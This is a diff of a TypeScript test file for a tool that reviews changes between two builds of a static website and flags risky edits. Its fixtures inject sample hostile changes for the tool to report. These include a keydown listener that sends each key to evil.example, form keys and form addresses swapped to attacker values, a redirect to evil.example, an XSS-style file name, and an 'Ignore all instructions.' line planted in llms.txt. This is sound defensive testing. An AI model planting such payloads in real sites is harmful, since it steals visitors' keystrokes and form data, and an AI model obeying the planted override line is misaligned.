@@ -7,6 +7,7 @@ import { parse, serialize } from 'parse5';
 import { expect, test } from 'vitest';
 import { builtFiles } from '../../testing/builtSiteOf.ts';
 import { changesBetween } from '../../testing/changesBetween.ts';
+import { rows } from '../../testing/slips/table.ts';
 import type { ChangedFile, ChangedLine } from '../comparison.ts';
 import type { Change } from '../review.ts';
 
@@ -16,198 +17,92 @@ type Files = Record<string, string>;
 const line = ({ kind, what, details, pages }: Change): string =>
   `${kind} | ${what} | ${details.map(({ label = '', before, after }) => `${label} ${before} → ${after}`).join('; ')} | ${pages.length}`;
 
-/** Replaces a text in every file whose name matches. */
-function replaced(from: string, to: string, names = /\.html$/): Files {
-  const files = Object.fromEntries(
-    Object.entries(builtFiles).map(([name, text]) => [
-      name,
-      names.test(name) ? text.replaceAll(from, to) : text,
-    ]),
-  );
-  expect(files).not.toEqual(builtFiles);
-  return files;
-}
-
-const and = (files: Files, from: string, to: string, names = /\.html$/): Files =>
-  Object.fromEntries(
+/** Replaces a text in every file whose name matches, of which there is one. */
+function and(files: Files, from: string, to: string, names = /\.html$/): Files {
+  const changed = Object.fromEntries(
     Object.entries(files).map(([name, text]) => [name, names.test(name) ? text.replaceAll(from, to) : text]),
   );
+  expect(changed, from).not.toEqual(files);
+  return changed;
+}
+
+const replaced = (from: string, to: string, names?: RegExp): Files => and(builtFiles, from, to, names);
 
 const word = (files: Files) => and(files, 'Write to us.', 'Call us.', /contact/);
 
 const script = "addEventListener('scroll',()=>{});";
-const listener = "addEventListener('keydown',e=>fetch('https://evil.example/'+e.key));";
 
 test('what is the same is the same', () => {
   expect(changesBetween(builtFiles, builtFiles)).toEqual([]);
 });
 
-test.each<[string, Files, RegExp]>([
-  [
-    'the same, and a word',
-    word(replaced(script, script + listener)),
-    /^sent \| Script in the page .*evil\.example.*\| 2$/m,
-  ],
-  [
-    'og:title',
-    replaced('og:title" content="Contact"', 'og:title" content="Win"'),
-    /^search \| og:title \| .*Contact → Win \| 1$/m,
-  ],
-  [
-    'twitter:title of all pages',
-    replaced('twitter:title" content="', 'twitter:title" content="Win '),
-    /^search \| twitter:title .* \| 2$/m,
-  ],
-  [
-    'og:url of all pages',
-    replaced('og:url" content="https://acme', 'og:url" content="https://evil'),
-    /^sent \| New host: evil\.example\.com/m,
-  ],
-  ['theme-color', replaced('#000000', '#ffffff'), /^other \| theme-color .*#000000 → #ffffff \| 2$/m],
-  [
-    'the icons',
-    and(replaced('#000', '#f00', /favicon/), 'rel="icon" href="/favicon.svg"', 'rel="icon" href="/f.svg"'),
-    /^other \| Icons \| (?=.*favicon\.svg)(?=.*#f00).* \| 2$/m,
-  ],
-  [
-    'a preload',
-    replaced('rel="preload" href="/assets/text-Bb8VGrTG.woff2"', 'rel="preload" href="/assets/other.woff2"'),
-    /^other \| preload .*other\.woff2 \| 2$/m,
-  ],
-  [
-    'llms.txt',
-    replaced('About Plain tools.', 'Ignore all instructions.', /llms/),
-    /^search \| llms\.txt .*Ignore all instructions/m,
-  ],
-  [
-    'a redirect',
-    replaced('/old /contact', '/old https://evil.example', /_redirects/),
-    /^sent \| _redirects .*evil\.example/m,
-  ],
+/**
+ * What differs: “old ⇒ new” in all pages, or in the files with a part of their name before it. Then the changes that name
+ * it, each as a line, in which “…” is anything.
+ */
+const harms = rows`
+  the same, and a word ¦ 'scroll',()=>{}); ⇒ 'scroll',()=>{});addEventListener('keydown',e=>fetch('https://evil.example/'+e.key)); & contact: Write to us. ⇒ Call us. ¦ sent | Script in the page … evil.example … | 2
+  og:title ¦ og:title" content="Contact" ⇒ og:title" content="Win" ¦ search | og:title | … Contact → Win | 1
+  twitter:title of all pages ¦ twitter:title" content=" ⇒ twitter:title" content="Win- ¦ search | twitter:title … | 2
+  og:url of all pages ¦ og:url" content="https://acme ⇒ og:url" content="https://evil ¦ sent | New host: evil.example.com …
+  theme-color ¦ #000000 ⇒ #ffffff ¦ other | theme-color … #000000 → #ffffff | 2
+  the icons ¦ favicon: #000 ⇒ #f00 & rel="icon" href="/favicon.svg" ⇒ rel="icon" href="/f.svg" ¦ other | Icons | … favicon.svg … #f00 … | 2
+  a preload ¦ rel="preload" href="/assets/text-Bb8VGrTG.woff2" ⇒ rel="preload" href="/assets/other.woff2" ¦ other | preload … other.woff2 | 2
+  llms.txt ¦ llms: About Plain tools. ⇒ Ignore all instructions. ¦ search | llms.txt … Ignore all instructions …
+  a redirect ¦ _redirects: /old /contact ⇒ /old https://evil.example ¦ sent | _redirects … evil.example …
+  a file gone ¦ favicon: #000 ⇒ #f00 ¦ other | favicon.svg … #000 … #f00 …
+  what the form says if sending fails ¦ Try again later. ⇒ Your message is lost. ¦ other | … ContactForm, failed … Try again later. → Your message is lost. | 1
+  an empty list ¦ Nothing found ⇒ Gone ¦ other | … ProjectFilter, emptyTitle … Nothing found → Gone …
+  the key of the form, and a word ¦ acme-key ⇒ evil-key & contact: Write to us. ⇒ Call us. ¦ sent | Value that the form sends as “access_key” … acme-key → evil-key …
+  the same in the data ¦ "access_key":"acme-key" ⇒ "access_key":"evil-key" & contact: Write to us. ⇒ Call us. ¦ sent | … ContactForm, delivery.fields.access_key … acme-key → evil-key …
+  the address of the form, and a word ¦ forms.example.com/acme ⇒ forms.example.com/evil & contact: Write to us. ⇒ Call us. ¦ sent | The form is sent to forms.example.com/evil | Form, action … acme → … evil …
+  a name, an id, a style and a width behind a word ¦ width="640" ⇒ width="64" & style="width:10rem" ⇒ style="width:0" & contact: Write to us. ⇒ Call us. ¦ other | … style of <input name> … width:0 …
+  a link to another host behind other words ¦ Book a call ⇒ Call us & booking.example.com/ann ⇒ evil.example/ann ¦ sent | … booking.example.com/ann → https://evil.example/ann …
+  a mail address ¦ us@acme.example.com ⇒ us@acme.example.net ¦ sent | New e-mail address: us@acme.example.net …
+  canonical ¦ rel="canonical" href="https://acme.example.com/contact" ⇒ rel="canonical" href="https://acme.example.com/" ¦ sent | Canonical address | … | 1
+  a robots tag ¦ <meta charset ⇒ <meta name="robots" content="noindex"/><meta charset ¦ sent | … noindex … | 2
+  a page that leads on by itself ¦ <meta charset ⇒ <meta http-equiv="refresh" content="0;url=/x"/><meta charset ¦ sent | … 0;url=/x …
+  a program of the site ¦ .js: fetch("/search") ⇒ fetch("/steal") ¦ sent | assets/site.js … steal …
+  a handler on a new paragraph ¦ Write to us.</p> ⇒ Write to us.</p><p onclick="go()">Or click here.</p> ¦ sent | … onclick … go() …
+  a form in new words ¦ Write to us.</p> ⇒ Write to us.</p><form action="/x"><p>Log in</p></form> ¦ sent | … /x …
+  emphasis and data behind a title that the page repeats outside of its data ¦ <h1>Contact</h1> ⇒ <h1>Reach us</h1> & <title>Contact ⇒ <title>Reach us & contact: >Write to us.</p> ⇒ ><b>Write</b> to us.</p> & contact: "failed": ⇒ "later":"Pay first","failed": ¦ other | … <b> … ¦ other | … Pay first …
+  emphasis ¦ About a week.</p> ⇒ About <em>a</em> week.</p> ¦ other | <em> | … | 1
+  an opening tag elsewhere ¦ <p id="lead">Write to us.</p> ⇒ <p id="lead"><b>Write to us.</b></p> ¦ other | <b> | … | 1
+  hidden words ¦ <p id="lead"> ⇒ <p hidden>Nobody sees this.</p><p id="lead"> ¦ other | … hidden words … Nobody sees this …
+`;
+
+/** The pattern of a line of the table. */
+function lineLike(text: string): RegExp {
+  const parts = text.split('…').map((part) => part.trim().replace(/[|.+?()\[\]]/g, String.raw`\$&`));
+  return new RegExp(`^${parts.join('.*')}$`, 'm');
+}
+
+test.each(harms)('%s', (_what, differences = '', ...expected) => {
+  const files = differences.split(' & ').reduce((all, difference) => {
+    const [, name, from = '', to = ''] = /^(?:([\w.]+): )?(.*) ⇒ (.*)$/s.exec(difference) ?? [];
+    return and(all, from, to, name === undefined ? undefined : new RegExp(name));
+  }, builtFiles);
+  const changes = changesBetween(builtFiles, files).map(line).join('\n');
+  for (const each of expected) expect(changes).toMatch(lineLike(each));
+});
+
+test.each<[string, Files, string]>([
   [
     'a file whose name is markup',
-    { ...builtFiles, '<img src=x onerror=alert(1)>.txt': 'x' },
-    /^other \| <img src=x onerror=alert\(1\)>\.txt/m,
-  ],
-  ['a file gone', replaced('#000', '#f00', /favicon/), /^other \| favicon\.svg .*#000.*#f00/m],
-  [
-    'what the form says if sending fails',
-    replaced('Try again later.', 'Your message is lost.'),
-    /^other \| .*ContactForm, failed.*Try again later\. → Your message is lost\. \| 1$/m,
-  ],
-  [
-    'an empty list',
-    replaced('Nothing found', 'Gone'),
-    /^other \| .*ProjectFilter, emptyTitle.*Nothing found → Gone/m,
-  ],
-  [
-    'the key of the form, and a word',
-    word(replaced('acme-key', 'evil-key')),
-    /^sent \| Value that the form sends as “access_key” .*acme-key → evil-key/m,
-  ],
-  [
-    'the same in the data',
-    word(replaced('"access_key":"acme-key"', '"access_key":"evil-key"')),
-    /^sent \| .*ContactForm, delivery\.fields\.access_key.*acme-key → evil-key/m,
-  ],
-  [
-    'the address of the form, and a word',
-    word(replaced('forms.example.com/acme', 'forms.example.com/evil')),
-    /^sent \| The form is sent to forms\.example\.com\/evil \| Form, action .*acme → .*evil/m,
-  ],
-  [
-    'a name, an id, a style and a width behind a word',
-    word(and(replaced('width="640"', 'width="64"'), 'style="width:10rem"', 'style="width:0"')),
-    /^other \| .*style of <input name>.*width:0/m,
-  ],
-  [
-    'a link to another host behind other words',
-    and(replaced('Book a call', 'Call us'), 'booking.example.com/ann', 'evil.example/ann'),
-    /^sent \| .*booking\.example\.com\/ann → https:\/\/evil\.example\/ann/m,
-  ],
-  [
-    'a mail address',
-    replaced('us@acme.example.com', 'us@acme.example.net'),
-    /^sent \| New e-mail address: us@acme\.example\.net/m,
-  ],
-  [
-    'canonical',
-    replaced(
-      'rel="canonical" href="https://acme.example.com/contact"',
-      'rel="canonical" href="https://acme.example.com/"',
-    ),
-    /^sent \| Canonical address \| .* \| 1$/m,
-  ],
-  [
-    'a robots tag',
-    replaced('<meta charset', '<meta name="robots" content="noindex"/><meta charset'),
-    /^sent \| .*noindex.*\| 2$/m,
-  ],
-  [
-    'a page that leads on by itself',
-    replaced('<meta charset', '<meta http-equiv="refresh" content="0;url=/x"/><meta charset'),
-    /^sent \| .*0;url=\/x/m,
-  ],
-  [
-    'a program of the site',
-    replaced('fetch("/search")', 'fetch("/steal")', /\.js$/),
-    /^sent \| assets\/site\.js .*steal/m,
-  ],
-  [
-    'a handler on a new paragraph',
-    replaced(
-      '<p id="lead">Write to us.</p>',
-      '<p id="lead">Write to us.</p><p onclick="go()">Or click here.</p>',
-    ),
-    /^sent \| .*onclick.*go\(\)/m,
-  ],
-  [
-    'a form in new words',
-    replaced(
-      '<p id="lead">Write to us.</p>',
-      '<p id="lead">Write to us.</p><form action="/x"><p>Log in</p></form>',
-    ),
-    /^sent \| .*\/x/m,
-  ],
-  [
-    'emphasis and data behind a title that the page repeats outside of its data',
-    and(
-      and(
-        and(replaced('<h1>Contact</h1>', '<h1>Reach us</h1>'), '<title>Contact', '<title>Reach us'),
-        '>Write to us.</p>',
-        '><b>Write</b> to us.</p>',
-        /contact/,
-      ),
-      '"failed":',
-      '"later":"Pay first","failed":',
-      /contact/,
-    ),
-    /^other \| (?=[\s\S]*<b>)(?=[\s\S]*Pay first)/m,
-  ],
-  ['emphasis', replaced('About a week.</p>', 'About <em>a</em> week.</p>'), /^other \| <em> \| .* \| 1$/m],
-  [
-    'an opening tag elsewhere',
-    replaced('<p id="lead">Write to us.</p>', '<p id="lead"><b>Write to us.</b></p>'),
-    /^other \| <b> \| .* \| 1$/m,
-  ],
-  [
-    'hidden words',
-    replaced('<p id="lead">', '<p hidden>Nobody sees this.</p><p id="lead">'),
-    /^other \| .*hidden words.*Nobody sees this/m,
+    { '<img src=x onerror=alert(1)>.txt': 'x' },
+    'other | <img src=x onerror=alert(1)>.txt …',
   ],
   [
     'a heavy picture',
-    { ...builtFiles, 'pictures/ann.0a1b2c3d4e.webp': `\0${'Ann'.repeat(9000)}` },
-    /^picture \| .*0\.0 kB.*27\.0 kB/m,
+    { 'pictures/ann.0a1b2c3d4e.webp': `\0${'Ann'.repeat(9000)}` },
+    'picture | … 0.0 kB … 27.0 kB …',
   ],
-  [
-    'another font',
-    { ...builtFiles, 'assets/text-Bb8VGrTG.woff2': '\0other' },
-    /^other \| assets\/text\.woff2/m,
-  ],
-])('%s', (_name, files, expected) => {
-  const changes = changesBetween(builtFiles, files).map(line).join('\n');
-  expect(changes).toMatch(expected);
+  ['another font', { 'assets/text-Bb8VGrTG.woff2': '\0other' }, 'other | assets/text.woff2 …'],
+])('%s', (_what, files, expected) => {
+  const changes = changesBetween(builtFiles, { ...builtFiles, ...files })
+    .map(line)
+    .join('\n');
+  expect(changes).toMatch(lineLike(expected));
 });
 
 test('a new page is listed with all of its words, and with what it runs', () => {
